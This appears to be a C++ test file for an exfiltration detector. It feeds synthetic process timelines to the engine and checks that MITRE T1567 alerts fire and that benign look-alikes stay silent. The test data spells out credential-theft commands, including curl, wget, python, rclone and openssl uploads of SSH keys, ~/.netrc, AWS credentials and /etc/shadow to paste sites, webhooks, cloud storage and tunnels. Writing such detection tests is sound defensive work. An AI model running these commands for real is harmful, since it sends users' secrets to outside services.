@@ -1,0 +1,487 @@
+// Tests detect/engine.cpp over synthetic timelines: every public scenario (attacks alert with the
+// right sub-technique, look-alikes stay silent) and variants (other sites, rclone, renamed
+// binaries, event orders, pid reuse, windows, caps).
+#include <doctest/doctest.h>
+
+#include "timeline.hpp"
+
+using namespace exfilwatch;
+using namespace exfilwatch::detect;
+using namespace exfilwatch::detect::test;
+
+namespace {
+
+const std::string key = home + "/.ssh/id_ed25519";
+
+void expect_alert(const Timeline& tl, const std::string& subtechnique, const std::string& category)
+{
+    REQUIRE_FALSE(tl.alerts.empty());
+    const Alert* a = tl.find(subtechnique);
+    REQUIRE(a != nullptr);
+    CHECK(a->technique_id == "T1567");
+    CHECK(a->category == category);
+    CHECK(a->risk_score >= tl.engine.rules().settings.alert_threshold);
+    CHECK(a->risk_score <= 100);
+    CHECK_FALSE(a->reason.empty());
+    CHECK_FALSE(a->signals.empty());
+    CHECK_FALSE(a->chain.empty());
+    int sum = 0;
+    for (const auto& s : a->signals) sum += s.weight;
+    CHECK(std::clamp(sum, 0, 100) == a->risk_score);
+}
+
+}  // namespace
+
+TEST_CASE("attack 1: slack webhook with .netrc attached alerts T1567.004")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "hooks.slack.com:8443:127.0.0.1", "-F",
+                                    "file=@" + home + "/.netrc",
+                                    "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX"});
+    tl.open_read(curl, home + "/.netrc");
+    tl.transfer(curl, "hooks.slack.com", 600 + 2400 + 350, 1800);
+    tl.exit(curl);
+    tl.summary(curl, home + "/.netrc", 2400);
+    expect_alert(tl, "T1567.004", "webhook");
+    const auto& a = *tl.find("T1567.004");
+    CHECK(a.destination_domain == "hooks.slack.com");
+    CHECK(a.process.name == "curl");
+    CHECK(tl.has_signal(a, "sensitive-read"));
+    CHECK(tl.has_signal(a, "upload-command"));
+    REQUIRE_FALSE(a.files.empty());
+    CHECK(a.files[0].sensitive_class == "dev-tokens");
+    // The evidence never carries the webhook token.
+    for (const auto& s : a.signals) CHECK(s.evidence.find("XXXXXXXX") == std::string::npos);
+    CHECK(a.reason.find("~/.netrc") != std::string::npos);
+}
+
+TEST_CASE("attack 2: shell history to a paste site with wget alerts T1567.003")
+{
+    Timeline tl;
+    auto wget = tl.spawn(tl.shell, {"wget", "-q", "-O", "/dev/null", "--no-check-certificate",
+                                    "--post-file=" + home + "/.bash_history", "https://paste.rs:8443/"});
+    tl.open_read(wget, home + "/.bash_history");
+    tl.transfer(wget, "paste.rs", 700 + 3100, 1700);
+    tl.exit(wget);
+    tl.summary(wget, home + "/.bash_history", 3100);
+    expect_alert(tl, "T1567.003", "paste");
+    CHECK(tl.find("T1567.003")->files[0].sensitive_class == "shell-history");
+}
+
+TEST_CASE("attack 3: staged archive to cloud storage alerts T1567.002 (taint through the staging file)")
+{
+    Timeline tl;
+    auto tar = tl.spawn(tl.shell, {"tar", "czf", "/tmp/stage.tgz", "-C", home, ".ssh", ".aws"});
+    tl.open_write(tar, "/tmp/stage.tgz", 777);
+    tl.open_read(tar, key);
+    tl.open_read(tar, key + ".pub");
+    tl.open_read(tar, home + "/.aws/credentials");
+    tl.open_read(tar, home + "/.aws/config");
+    tl.exit(tar);
+    tl.summary(tar, key, 2600);
+    tl.summary(tar, key + ".pub", 600);
+    tl.summary(tar, home + "/.aws/credentials", 2100);
+    tl.summary(tar, home + "/.aws/config", 1500);
+    tl.summary(tar, "/tmp/stage.tgz", 0, 777, true);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "content.dropboxapi.com:8443:127.0.0.1", "-X", "POST",
+                                    "--data-binary", "@/tmp/stage.tgz", "https://content.dropboxapi.com:8443/2/files/upload"});
+    tl.open_read(curl, "/tmp/stage.tgz", 777);
+    tl.transfer(curl, "content.dropboxapi.com", 700 + 4200, 1600);
+    tl.exit(curl);
+    tl.summary(curl, "/tmp/stage.tgz", 4200, 777);
+    expect_alert(tl, "T1567.002", "cloud-storage");
+    const auto& a = *tl.find("T1567.002");
+    bool staged = false, ssh = false;
+    for (const auto& f : a.files) {
+        staged |= f.path == "/tmp/stage.tgz" && f.sensitive_class.empty();
+        ssh |= f.sensitive_class == "ssh-key";
+    }
+    CHECK(staged);
+    CHECK(ssh);
+    CHECK(a.chain.size() >= 2);
+    CHECK(a.chain.front().start_time <= a.chain.back().start_time);
+    CHECK(a.reason.find("staged in /tmp/stage.tgz") != std::string::npos);
+}
+
+TEST_CASE("attack 4: python upload of a registry credential to a code host alerts T1567.001")
+{
+    Timeline tl;
+    auto py = tl.spawn(tl.shell,
+                       {"python3", "-c",
+                        "import ssl,urllib.request,os; d=open(os.path.expanduser(\"~/.docker/config.json\"),\"rb\").read(); "
+                        "urllib.request.urlopen(urllib.request.Request(\"https://gitlab.com:8443/api/v4/snippets\", "
+                        "data=d, method=\"POST\"), context=ssl._create_unverified_context())"},
+                       "/usr/bin/python3.11");
+    tl.read(py, home + "/.docker/config.json", 2200);
+    tl.transfer(py, "gitlab.com", 800 + 2200, 1500);
+    tl.exit(py);
+    expect_alert(tl, "T1567.001", "code-repository");
+    CHECK(tl.has_signal(*tl.find("T1567.001"), "upload-command"));
+}
+
+TEST_CASE("attack 5: shadow file through a tunnel alerts T1567 (pipeline siblings)")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "abc123.ngrok-free.app:8443:127.0.0.1", "--data-binary",
+                                    "@-", "https://abc123.ngrok-free.app:8443/"});
+    tl.open_read(cat, "/etc/shadow");
+    tl.exit(cat);
+    tl.summary(cat, "/etc/shadow", 1300);
+    tl.transfer(curl, "abc123.ngrok-free.app", 700 + 1300, 1500);
+    tl.exit(curl);
+    REQUIRE_FALSE(tl.alerts.empty());
+    const auto& a = tl.alerts.front();
+    CHECK(a.technique_id == "T1567");
+    CHECK(a.subtechnique_id.empty());
+    CHECK(a.category == "tunnel");
+    CHECK(a.risk_score >= 60);
+    CHECK(a.files[0].sensitive_class == "system-secrets");
+    CHECK(a.reason.find("cat read /etc/shadow") != std::string::npos);
+}
+
+TEST_CASE("attack 5 variant: the reader's summary arrives after the upload closed")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://abc123.ngrok-free.app:8443/"});
+    tl.transfer(curl, "abc123.ngrok-free.app", 700 + 1300, 1500);
+    tl.exit(curl);
+    CHECK(tl.alerts.empty());  // nothing read yet as far as the engine knows
+    tl.summary(cat, "/etc/shadow", 1300);
+    tl.exit(cat);
+    REQUIRE(tl.alerts.size() == 1);
+    CHECK(tl.alerts[0].category == "tunnel");
+}
+
+TEST_CASE("attack 6: renamed client and an encoded key alert T1567.003 with renamed-binary")
+{
+    Timeline tl;
+    auto cp = tl.spawn(tl.shell, {"cp", "/usr/bin/curl", "/tmp/.x"});
+    tl.open_read(cp, "/usr/bin/curl");
+    tl.open_write(cp, "/tmp/.x", 4242);
+    tl.exit(cp);
+    auto b64 = tl.spawn(tl.shell, {"base64", key});
+    auto x = tl.spawn(tl.shell, {"/tmp/.x", "-sk", "--resolve", "rentry.co:8443:127.0.0.1", "--data-binary", "@-",
+                                 "https://rentry.co:8443/api/new"},
+                      "/tmp/.x");
+    tl.open_read(b64, key);
+    tl.summary(b64, key, 2600);
+    tl.exit(b64);
+    tl.transfer(x, "rentry.co", 700 + 3500, 1500);
+    tl.exit(x);
+    expect_alert(tl, "T1567.003", "paste");
+    const auto& a = *tl.find("T1567.003");
+    CHECK(tl.has_signal(a, "renamed-binary"));
+    CHECK(tl.has_signal(a, "unusual-executable-path"));
+    CHECK(a.reason.find("renamed curl") != std::string::npos);
+    CHECK(a.reason.find("base64 read ~/.ssh/id_ed25519 (ssh-key)") != std::string::npos);
+}
+
+TEST_CASE("benign 1: CI notification to a webhook without a sensitive read is silent")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "hooks.slack.com:8443:127.0.0.1", "-d",
+                                    "{\"text\":\"build 1234 passed\"}",
+                                    "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX"});
+    tl.transfer(curl, "hooks.slack.com", 900, 1800);
+    tl.exit(curl);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("benign 2: source download from a code host is silent")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "codeload.github.com:8443:127.0.0.1",
+                                    "https://codeload.github.com:8443/org/repo/tar.gz/main", "-o", home + "/repo.tgz"});
+    tl.open_write(curl, home + "/repo.tgz", 31);
+    tl.transfer(curl, "codeload.github.com", 700, 250000);
+    tl.exit(curl);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("benign 3: reading keys and configs locally without network is silent")
+{
+    Timeline tl;
+    auto keygen = tl.spawn(tl.shell, {"ssh-keygen", "-lf", key + ".pub"});
+    tl.read(keygen, key + ".pub", 100);
+    tl.exit(keygen);
+    auto cat = tl.spawn(tl.shell, {"cat", home + "/.aws/config"});
+    tl.read(cat, home + "/.aws/config", 1500);
+    tl.exit(cat);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("benign 4: uploading a non-sensitive file to an unknown service is silent, even after benign 3")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", home + "/.aws/config"});
+    tl.read(cat, home + "/.aws/config", 1500);
+    tl.exit(cat);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "upload.example.org:8443:127.0.0.1", "-T",
+                                    "/etc/os-release", "https://upload.example.org:8443/"});
+    tl.read(curl, "/etc/os-release", 400);
+    tl.transfer(curl, "upload.example.org", 1300, 1500);
+    tl.exit(curl);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("benign 5: a cloud SDK reads its credentials and lists a bucket: silent")
+{
+    for (std::uint64_t creds : {116ULL, 2100ULL}) {
+        for (std::uint64_t in : {2500ULL, 60000ULL}) {
+            CAPTURE(creds);
+            CAPTURE(in);
+            Timeline tl;
+            auto py = tl.spawn(tl.shell,
+                               {"python3", "-c",
+                                "import ssl,urllib.request,os; open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
+                                "urllib.request.urlopen(\"https://s3.amazonaws.com:8443/my-bucket?list-type=2\", "
+                                "context=ssl._create_unverified_context()).read()"},
+                               "/usr/bin/python3.11");
+            tl.read(py, home + "/.aws/credentials", creds);
+            tl.transfer(py, "s3.amazonaws.com", 850, in);
+            tl.exit(py);
+            CHECK(tl.alerts.empty());
+        }
+    }
+}
+
+TEST_CASE("variant: other paste sites and a direct upload of a private key")
+{
+    for (std::string site : {"pastebin.com", "dpaste.org", "www.pastebin.com", "termbin.com"}) {
+        CAPTURE(site);
+        Timeline tl;
+        auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@/root/.ssh/id_rsa", "https://" + site + "/api"});
+        tl.read(curl, "/root/.ssh/id_rsa", 3200);
+        tl.transfer(curl, site, 700 + 3400, 900);
+        expect_alert(tl, "T1567.003", "paste");
+    }
+}
+
+TEST_CASE("variant: lookalike domains do not match the catalog")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-T", "/root/.ssh/id_rsa", "https://evilpastebin.com/"});
+    tl.read(curl, "/root/.ssh/id_rsa", 3200);
+    tl.transfer(curl, "evilpastebin.com", 700 + 3400, 900);
+    REQUIRE_FALSE(tl.alerts.empty());  // still exfiltration of a key to a web service ...
+    CHECK(tl.alerts[0].category == "unknown");  // ... but not a paste site
+    CHECK(tl.alerts[0].subtechnique_id.empty());
+}
+
+TEST_CASE("variant: rclone copies cloud credentials to a remote")
+{
+    Timeline tl;
+    auto rclone = tl.spawn(tl.shell, {"rclone", "copy", home + "/.aws", "gdrive:backup"});
+    tl.read(rclone, home + "/.aws/credentials", 2100);
+    tl.read(rclone, home + "/.aws/config", 900);
+    tl.transfer(rclone, "www.googleapis.com", 900 + 3000, 1500);
+    expect_alert(tl, "T1567.002", "cloud-storage");
+    CHECK(tl.has_signal(*tl.find("T1567.002"), "upload-command"));
+}
+
+TEST_CASE("variant: argv[0] claims curl but the executable is a hidden copy")
+{
+    Timeline tl;
+    auto x = tl.spawn(tl.shell, {"curl", "-T", key, "https://transfer.sh/k"}, "/dev/shm/.cache/kworker");
+    tl.read(x, key, 2600);
+    tl.transfer(x, "transfer.sh", 700 + 2600, 800);
+    expect_alert(tl, "T1567.002", "cloud-storage");
+    CHECK(tl.has_signal(*tl.find("T1567.002"), "renamed-binary"));
+    CHECK(tl.has_signal(*tl.find("T1567.002"), "unusual-executable-path"));
+}
+
+TEST_CASE("variant: sh -c 'cat key | openssl s_client' (pipeline under a child shell)")
+{
+    Timeline tl;
+    auto sh = tl.spawn(tl.shell, {"sh", "-c", "cat k | openssl s_client -quiet -connect x.trycloudflare.com:443"});
+    auto cat = tl.spawn(sh, {"cat", key});
+    auto ossl = tl.spawn(sh, {"openssl", "s_client", "-quiet", "-connect", "x.trycloudflare.com:443"});
+    tl.read(cat, key, 2600);
+    tl.exit(cat);
+    tl.transfer(ossl, "x.trycloudflare.com", 700 + 2600, 1500);
+    REQUIRE_FALSE(tl.alerts.empty());
+    CHECK(tl.alerts[0].category == "tunnel");
+}
+
+TEST_CASE("variant: pid reuse does not carry a dead process's reads to a new one")
+{
+    Timeline tl;
+    auto reader = tl.spawn(tl.shell, {"cat", key}, {}, 5555);
+    tl.read(reader, key, 2600);
+    tl.exit(reader);
+    auto other_shell = tl.start_shell();
+    tl.step(1000);
+    auto curl = tl.spawn(other_shell, {"curl", "-d", "hello", "https://pastebin.com/api"}, {}, 5555);
+    CHECK(curl.entity_id != reader.entity_id);
+    tl.transfer(curl, "pastebin.com", 4000, 900);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: sequential commands in one shell do not share taint without a staging file")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key});
+    tl.read(cat, key, 2600);
+    tl.exit(cat);
+    auto curl = tl.spawn(tl.shell, {"curl", "-d", "@notes.txt", "https://pastebin.com/api"});
+    tl.read(curl, home + "/notes.txt", 3000);
+    tl.transfer(curl, "pastebin.com", 4000, 900);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: git push over ssh reads its own key: silent")
+{
+    Timeline tl;
+    auto git = tl.spawn(tl.shell, {"git", "push", "origin", "main"});
+    auto ssh = tl.spawn(git, {"ssh", "git@github.com", "git-receive-pack 'org/repo.git'"});
+    tl.read(ssh, key, 2600);
+    tl.transfer(ssh, "github.com", 80000, 6000);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: aws s3 cp of a build artifact after reading its own credentials: silent")
+{
+    Timeline tl;
+    auto aws = tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", "build.tar", "s3://bucket/"},
+                        "/usr/bin/python3.11");
+    tl.read(aws, home + "/.aws/credentials", 2100);
+    tl.read(aws, home + "/build.tar", 3'000'000);
+    tl.transfer(aws, "bucket.s3.eu-west-1.amazonaws.com", 3'100'000, 9000);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: the same aws upload of the credentials file itself alerts")
+{
+    Timeline tl;
+    auto aws = tl.spawn(tl.shell,
+                        {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
+                        "/usr/bin/python3.11");
+    tl.read(aws, home + "/.aws/credentials", 2100);
+    tl.transfer(aws, "drop.s3.us-east-1.amazonaws.com", 700 + 2100 + 500, 1200);
+    expect_alert(tl, "T1567.002", "cloud-storage");
+}
+
+TEST_CASE("allowlisted processes get lower scores, not blindness")
+{
+    auto run = [](const std::string& exe) {
+        Timeline tl;
+        auto p = tl.spawn(tl.shell, {exe}, "/usr/bin/" + exe);
+        tl.read(p, key, 2600);
+        tl.transfer(p, "pastebin.com", 700 + 2600, 500);
+        tl.summary(p, key, 2600);
+        return tl;
+    };
+    auto plain = run("myagent");
+    auto browser = run("firefox");
+    REQUIRE_FALSE(plain.alerts.empty());
+    int browser_score = browser.alerts.empty() ? 0 : browser.max_score();
+    CHECK(browser_score < plain.max_score());
+    // Even a browser alerts when enough adds up: rescoring with a higher-weight path.
+    Timeline tl;
+    auto ff = tl.spawn(tl.shell, {"firefox"}, "/tmp/.hidden/firefox");
+    tl.read(ff, key, 2600);
+    tl.read(ff, "/etc/shadow", 1200);
+    tl.read(ff, home + "/.aws/credentials", 1200);
+    tl.transfer(ff, "pastebin.com", 700 + 5000, 500);
+    REQUIRE_FALSE(tl.alerts.empty());
+    CHECK(tl.has_signal(tl.alerts[0], "allowlisted-process"));
+}
+
+TEST_CASE("alerts once per lineage and destination, again only on escalation")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://paste.ee/api"});
+    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
+    tl.read(cat, "/etc/shadow", 1300);
+    auto f = tl.connect(curl, "paste.ee");
+    tl.flow(curl, f, "paste.ee", 300, 1000, false);   // handshake only: not yet covered
+    std::size_t first = tl.alerts.size();
+    tl.flow(curl, f, "paste.ee", 2500, 1000, false);  // data went out
+    tl.flow(curl, f, "paste.ee", 2500, 1000, false);  // same again: no repeat
+    tl.flow(curl, f, "paste.ee", 2600, 1000, true);
+    REQUIRE(tl.alerts.size() >= 1);
+    CHECK(tl.alerts.size() <= first + 2);
+    for (std::size_t i = 1; i < tl.alerts.size(); ++i)
+        CHECK(tl.alerts[i].risk_score >= tl.alerts[i - 1].risk_score + tl.engine.rules().settings.realert_step);
+}
+
+TEST_CASE("reads older than the window do not count")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"sleep-reader", key}, "/usr/bin/sleep-reader");
+    tl.read(cat, key, 2600);
+    tl.step(tl.engine.rules().settings.window_ns / 1'000'000 + 5000);
+    auto curl = tl.spawn(cat, {"curl", "--data-binary", "@-", "https://paste.ee/api"});
+    tl.transfer(curl, "paste.ee", 4000, 900);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("parent to child inheritance: a reader that spawns the uploader")
+{
+    Timeline tl;
+    auto py = tl.spawn(tl.shell, {"python3", "exfil.py"}, "/usr/bin/python3.11");
+    tl.read(py, home + "/.kube/config", 5000);
+    auto curl = tl.spawn(py, {"curl", "--data-binary", "@-", "https://webhook.site/abc"});
+    tl.transfer(curl, "webhook.site", 700 + 5000, 900);
+    expect_alert(tl, "T1567.004", "webhook");
+}
+
+TEST_CASE("discord counts as a webhook only on /api/webhooks/ when the path is known")
+{
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-F", "f=@" + key, "http://discord.com/api/webhooks/1/abc"});
+    tl.read(curl, key, 2600);
+    auto f = tl.connect(curl, "discord.com", false, 80);
+    tl.flow(curl, f, "discord.com", 3500, 500, true);
+    REQUIRE_FALSE(tl.alerts.empty());
+    CHECK(tl.alerts[0].category == "unknown");  // the helper's HTTP request path is "/"
+}
+
+TEST_CASE("deterministic: the same events give the same alerts")
+{
+    auto run = [] {
+        Timeline tl;
+        auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
+        auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://x.ngrok.io/"});
+        tl.read(cat, "/etc/shadow", 1300);
+        tl.transfer(curl, "x.ngrok.io", 2600, 900);
+        return tl.alerts;
+    };
+    auto a = run(), b = run();
+    REQUIRE(a.size() == b.size());
+    REQUIRE_FALSE(a.empty());
+    for (std::size_t i = 0; i < a.size(); ++i) {
+        CHECK(a[i].risk_score == b[i].risk_score);
+        CHECK(a[i].reason == b[i].reason);
+        CHECK(a[i].time == b[i].time);
+    }
+}
+
+TEST_CASE("memory stays bounded and evictions are counted")
+{
+    auto r = builtin();
+    r.settings.max_processes = 32;
+    r.settings.max_pairs = 16;
+    r.settings.max_flows = 16;
+    r.settings.max_staging_files = 16;
+    Timeline tl(std::move(r));
+    for (int i = 0; i < 400; ++i) {
+        auto p = tl.spawn(tl.shell, {"worker", std::to_string(i)}, "/usr/bin/worker");
+        tl.open_write(p, "/tmp/out" + std::to_string(i), 100000 + i);
+        auto f = tl.connect(p, "host" + std::to_string(i) + ".example");
+        tl.flow(p, f, "host" + std::to_string(i) + ".example", 100, 100, false);
+        tl.step(1100);
+    }
+    auto s = tl.engine.stats();
+    CHECK(s.processes <= 40);
+    CHECK(s.pairs <= 20);
+    CHECK(s.flows <= 20);
+    CHECK(s.staged_files <= 20);
+    CHECK(s.evicted_processes > 0);
+    CHECK(s.evicted_flows > 0);
+    CHECK(s.evicted_pairs > 0);
+    CHECK(s.evicted_staged_files > 0);
+    CHECK(s.events > 1000);
+}
